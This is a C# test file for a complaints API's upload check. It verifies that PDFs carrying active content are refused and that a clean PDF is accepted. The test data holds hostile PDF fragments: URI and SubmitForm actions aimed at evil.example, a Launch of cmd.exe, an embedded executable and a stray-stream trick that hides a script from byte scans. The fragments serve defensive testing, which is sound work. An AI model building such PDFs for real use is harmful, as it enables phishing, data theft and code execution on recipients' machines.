using Alba;
using Complaints.Api.Evidence;
using Complaints.Api.Tests.Infrastructure;

namespace Complaints.Api.Tests.Evidence;

/// <summary>
/// Issue #14, finding 1: a stray <c>stream</c> before a script's OpenAction passed the check and was stored byte for
/// byte; XFA, URI actions and embedded files were accepted. Each hostile sample is refused with 422 evidence.active_content.
/// </summary>
[Collection(ApiCollection.Name)]
public sealed class PdfActiveContentTests(AppFixture app)
{
    public static TheoryData<string, byte[]> HostileSamples => new()
    {
        { "a stray stream keyword before an OpenAction script", HostilePdfs.StrayStreamBeforeScript() },
        { "an incremental update adding a script to the catalog's additional actions", HostilePdfs.IncrementalUpdateAddingScript() },
        { "incremental updates adding a URI link behind a stray stream", HostilePdfs.IncrementalUpdateAddingUriBehindStrayStream() },
        { "a URI action", HostilePdfs.WithCatalogEntries("/OpenAction << /S /URI /URI (https://evil.example/) >>") },
        { "a SubmitForm action", HostilePdfs.WithCatalogEntries("/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>") },
        { "an ImportData action", HostilePdfs.WithCatalogEntries("/OpenAction << /S /ImportData /F (data.fdf) >>") },
        { "a Launch action", HostilePdfs.WithCatalogEntries("/OpenAction << /S /Launch /F (cmd.exe) >>") },
        { "page additional actions", HostilePdfs.Build([(1, "<< /Type /Catalog /Pages 2 0 R >>"), (2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"), (3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 5 0 R >> >>"), (5, "<< /S /Named /N /NextPage >>")]) },
        { "an embedded executable", HostilePdfs.WithCatalogEntries("/Names << /EmbeddedFiles << /Names [(run.exe) 5 0 R] >> >>", (5, "<< /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>"), (6, "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream")) },
        { "an XFA form", HostilePdfs.WithCatalogEntries("/AcroForm << /Fields [] /XFA 5 0 R >>", (5, "<< /Length 7 >>\nstream\n<xdp/>\nendstream")) },
        { "a rich media annotation", HostilePdfs.WithCatalogEntries("", (5, "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>")) },
    };

    [Theory]
    [MemberData(nameof(HostileSamples))]
    public async Task A_pdf_that_can_act_is_refused_as_active_content(string what, byte[] pdf)
    {
        var token = await app.Host.ForAsync("citizen");
        var result = await app.Host.UploadAsync(token, pdf, 422, "receipt.pdf", "application/pdf");
        var problem = await result.ShouldBeProblemAsync("evidence.active_content");
        Assert.False(string.IsNullOrEmpty(problem.GetProperty("detail").GetString()), what);
    }

    [Fact]
    public void The_parser_finds_the_script_the_stray_stream_hides_from_a_byte_scan() =>
        Assert.Equal(PdfActiveContent.Verdict.Active, PdfActiveContent.Inspect(HostilePdfs.StrayStreamBeforeScript()));

    [Fact]
    public async Task A_plain_pdf_built_the_same_way_is_accepted()
    {
        var clean = HostilePdfs.Update(HostilePdfs.Build([(1, "<< /Type /Catalog /Pages 2 0 R >>"), (2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
            (3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"), (4, "<< /Length 26 >>\nstream\nBT 72 760 Td (Receipt) Tj ET\nendstream")]),
            3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Rotate 90 >>");
        Assert.Equal(PdfActiveContent.Verdict.Clean, PdfActiveContent.Inspect(clean));
        var token = await app.Host.ForAsync("citizen");
        await app.Host.UploadOkAsync(token, clean, "receipt.pdf");
    }
}
